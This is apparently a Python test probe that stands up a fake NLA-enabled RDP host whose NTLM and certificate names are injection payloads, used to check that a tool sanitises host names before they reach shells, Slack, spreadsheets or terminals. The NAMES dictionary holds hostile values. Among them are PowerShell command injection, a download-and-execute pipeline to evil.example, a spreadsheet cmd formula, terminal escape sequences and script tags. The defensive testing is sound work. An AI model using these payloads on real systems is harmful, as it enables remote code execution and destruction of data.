"""An RDP host whose every name is code or markup for somebody: shells, Slack, spreadsheets."""

import re
import unicodedata
from collections.abc import Iterator

from spnego._credssp_structures import NegoData, TSRequest
from spnego._ntlm_raw.messages import AvId, Challenge, NegotiateFlags, TargetInfo, Version

from tests.probes.servers import Serve, context, rdp, windows_nla

MARK = "pwned"
NAMES = {
    "powershell": "$(Remove-Item C:\\pwned -Recurse)",
    "statement": ";Stop-Computer -Force #pwned",
    "backticks": "`touch pwned`",
    "quotes": "'\";touch pwned;\"'",
    "pipeline": "x|iex(iwr http://evil.example/pwned)",
    "mention": "<!channel> <@U0ADMIN> pwned",
    "link": "<http://evil.example|pwned> *_~`",
    "bare link": "https://evil.example/pwned",
    "formula": "=cmd|'/c pwned'!A0",
    "formula after a blank": "\t +pwned()",
    "formula with at": "@SUM(pwned)",
    "turned": "\u202edenwp\u2066 pwned\u200b",
    "escape": "\x1b]0;pwned\x07\x1b[2J\x1b[1;31mpwned",
    "c1": "\x9b2Jpwned\x85\x90",
    "lines": "pwned\r\n#1 resolved, verified\u2028x",
    "html": "<script>pwned()</script>&amp;",
    "template": "{host}{address}%s%(x)s{{pwned}}",
    "null": "pwned\x00cut",
}


def evil(name: str) -> Serve:
    """A Windows host that requires NLA; its certificate and its NTLM names are the name."""

    def challenge() -> bytes:
        info = TargetInfo()
        info[AvId.nb_domain_name] = name
        info[AvId.nb_computer_name] = name
        info[AvId.dns_computer_name] = name
        info[AvId.dns_domain_name] = name
        token = Challenge(
            flags=int(NegotiateFlags.unicode),
            server_challenge=b"12345678",
            target_name=name,
            target_info=info,
            version=Version(major=10, minor=0, build=17763),
        ).pack()
        return bytes(TSRequest(version=6, nego_tokens=[NegoData(bytes(token))]).pack())

    return rdp(windows_nla, context(name=name), challenge)


def moving(text: str) -> list[str]:
    """What could move a cursor, turn a line round or begin another one, line feeds excepted."""
    return [
        f"U+{ord(char):04X}"
        for char in text
        if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    ]


def commands(prose: str) -> Iterator[str]:
    """The code in a text of the knowledge base: fenced blocks and what stands in backticks."""
    yield from re.findall(r"```.*?```", prose, re.DOTALL)
    yield from re.findall(r"`[^`\n]+`", prose)
